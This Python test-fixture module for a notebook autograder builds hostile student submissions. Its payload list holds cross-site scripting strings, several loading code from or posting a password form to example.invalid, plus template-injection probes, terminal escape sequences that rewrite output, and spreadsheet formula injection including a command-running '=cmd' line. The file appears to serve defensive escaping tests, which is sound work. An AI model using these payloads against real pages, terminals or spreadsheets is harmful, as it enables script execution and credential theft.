"""What a hostile submission may try to put on a page, a terminal or a spreadsheet, and a submission full of it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from grader.evidence import Evidence, read_evidence
from grader.model import CellOutcome, CellRun, ExecutionOutcome, Flag, FlagKind, Outcome, Result, Student, Text

# Each calls ``alert`` or asks example.invalid for something if a browser takes it for more than text.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script from afar": "<script src=https://example.invalid/x.js></script>",
    "script after a comment": "--><script>alert(1)</script><!--",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a style": "</style><script>alert(1)</script>",
    "script after preformatted text": "</pre></details><script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "module": "<script type=module>import 'https://example.invalid/m.js'</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "attribute that ends": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "attribute in single quotes": "' onclick='alert(1)' x='",
    "attribute without quotes": " onfocus=alert(1) autofocus tabindex=1 ",
    "opening details": "<details open ontoggle=alert(1)>",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="https://example.invalid/a.svg#x"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mathml confusion": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "markdown link": "[x](javascript:alert(1)) ![x](https://example.invalid/pixel.png)",
    "markdown html": '# x\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "javascript address": "javascript:alert(1)//",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "frame": "<iframe src=https://example.invalid/></iframe>",
    "object": "<object data=https://example.invalid/x.swf></object><embed src=https://example.invalid/x>",
    "form": "<form action=https://example.invalid/><input name=password autofocus><button>x</button></form>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://example.invalid/">',
    "base": '<base href="https://example.invalid/">',
    "style sheet": "<link rel=stylesheet href=https://example.invalid/x.css><style>@import 'https://example.invalid/y'</style>",
    "style attribute": '<div style="background:url(https://example.invalid/bg)">x</div>',
    "template of ours": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "placeholder of ours": "{name.__class__.__init__.__globals__} {0} {x!r:>99999999}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "null bytes": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "latex": r"$\href{javascript:alert(1)}{x}$ \unicode{<script>alert(1)</script>}",
    "terminal title": "\x1b]0;owned\x07\x1b[2J\x1b[Hx",
    "terminal link": "\x1b]8;;https://example.invalid/\x1b\\x\x1b]8;;\x1b\\",
    "terminal reply": "\x1b[6n\x1b[c\x1bP+q544e\x1b\\x\x9b31mx",
    "terminal rewrite": "passed\r\x1b[2Kfailed\x08\x08",
    "rich markup": "[bold red link=https://example.invalid/]x[/]",
    "formula": '=HYPERLINK("https://example.invalid/","x")',
    "formula that runs": "=cmd|'/C calc'!A0",
    "formula with a plus": "+1+1",
    "formula with an at": "@SUM(1,1)",
    "formula after a tab": "\t=1+1",
    "formula in full width": "＝1+1",
    "reversed": "txt.\u202eexe.ipynb",
    "isolate": "a\u2066\u2067b\u2069\u2069c",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 25 / 25",
    "line separators": "a\u2028b\u2029c\x85d",
    "half a surrogate": "a\ud800b",
    "very long": "<b>" * 3_000,
}


RICH_TYPES = (
    "text/html",
    "text/markdown",
    "text/latex",
    "image/svg+xml",
    "application/javascript",
    "application/vnd.jupyter.widget-view+json",
    "image/png",
)


def _outputs(payload: str) -> list[dict[str, Any]]:
    rich = {**dict.fromkeys(RICH_TYPES, payload), payload: payload}
    return [
        {"output_type": "stream", "name": "stdout", "text": [payload, "\n"]},
        {"output_type": "display_data", "metadata": {}, "data": rich},
        {"output_type": "display_data", "metadata": {}, "data": {payload: payload, "text/html": payload}},
        {"output_type": "execute_result", "metadata": {}, "data": {"text/html": payload, "text/plain": payload}},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": []},
    ]


def notebook(payload: str) -> dict[str, Any]:
    """Executed, with ``payload`` wherever a notebook has text."""
    cells = [
        {"cell_type": "markdown", "source": payload, "metadata": {"name": payload}},
        {"cell_type": "code", "source": payload, "metadata": {"tags": [payload]}, "outputs": _outputs(payload)},
        {"cell_type": "raw", "source": [payload], "metadata": {}},
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"title": payload}, "cells": cells}


def _events(payload: str) -> Iterator[dict[str, Any]]:
    short = payload[:200]
    layer = {"class_name": "Conv2D" + short[:150], "name": short, "config": {short: payload[:2_000]}}
    array = {"kind": short, "shape": [600, 28, 28], "dtype": short, "digest": short}
    logs = {"accuracy": 0.5, "loss": 1.0, short: 1e300, "val_accuracy": -1e308, "val_loss": 1e308}
    callback = {"class_name": short, "config": {short: short}, "source": payload[:20_000]}
    yield {"event": "session", "versions": {short: short}, "runtime": short, "seed": 1}
    yield {"event": "dataset", "name": short, "digest": short}
    yield {"event": "model", "model": "model-1", "kind": short, "layers": [layer], "optimizer": short, "loss": short}
    start = {"event": "fit_start", "fit": "fit-1", "model": "model-1", "x": array, "y": array, "cell": 1, "epochs": 2}
    yield {**start, "callbacks": [callback]}
    yield {"event": "epoch", "fit": "fit-1", "epoch": 0, "logs": logs}
    yield {"event": "epoch", "fit": "fit-1", "epoch": 1, "logs": {**logs, "loss": -1e308}}
    yield {"event": "fit_end", "fit": "fit-1", "reason": short, "epochs_run": 2, "error": short}
    yield {"event": "note", "kind": short, "detail": short}
    yield {"event": short, payload[:500]: payload[:500]}
    yield {"event": "epoch", "fit": "fit-1", "epoch": 0, "logs": {short: payload[:500]}}


def evidence(directory: Path, execution: bytes, payload: str) -> Evidence:
    """An evidence folder with ``payload`` in every claim and in the executed notebook."""
    (directory / "claims").mkdir(parents=True, exist_ok=True)
    (directory / "execution.json").write_bytes(execution)
    (directory / "executed.ipynb").write_text(json.dumps(notebook(payload)), "utf-8")
    lines = "".join(json.dumps(event) + "\n" for event in _events(payload.replace("\ud800", "")))
    (directory / "claims" / "events.jsonl").write_text(lines, "utf-8")
    return read_evidence(directory)


def result(factory: Any, payload: str, digest: int = 1) -> Result:
    """A graded attempt with ``payload`` wherever a text of the student's can end up."""
    said = Text("Not looked at: {source}.", {"source": payload})
    own = Text(payload)
    measured = {"test_accuracy": payload, "where": payload, payload[:50]: payload, "threshold": 0.861}
    lines = (
        factory.criterion("runs", Outcome.FAILED, 0.0, said, own, cell=1, detail=payload, measured=measured),
        factory.criterion("base-model", Outcome.ERRORED, None, own, said, detail=payload),
        factory.criterion("small-data-accuracy", Outcome.PARTIAL, 0.5, said, measured=measured, cell=1),
        *factory.criteria()[3:5],
    )
    cells = (
        CellRun(0, CellOutcome.EMPTY),
        CellRun(1, CellOutcome.ERROR, payload[:80], 0.1, payload, payload),
    )
    versions = {payload: payload}
    return factory.result(
        student=Student(payload, payload, payload),
        source=f"class/{payload}.ipynb",
        execution=factory.execution(ExecutionOutcome.CELL_ERROR, cells=cells, notes=(said, own), versions=versions),
        score=factory.score(lines, tuple(Flag(kind, said) for kind in FlagKind)),
        notes=(said, own),
        conflicts=(said, own),
        digest=f"sha256:{digest:064x}",
        report=f"reports/{payload}.html",
        attempt_number=2,
    )
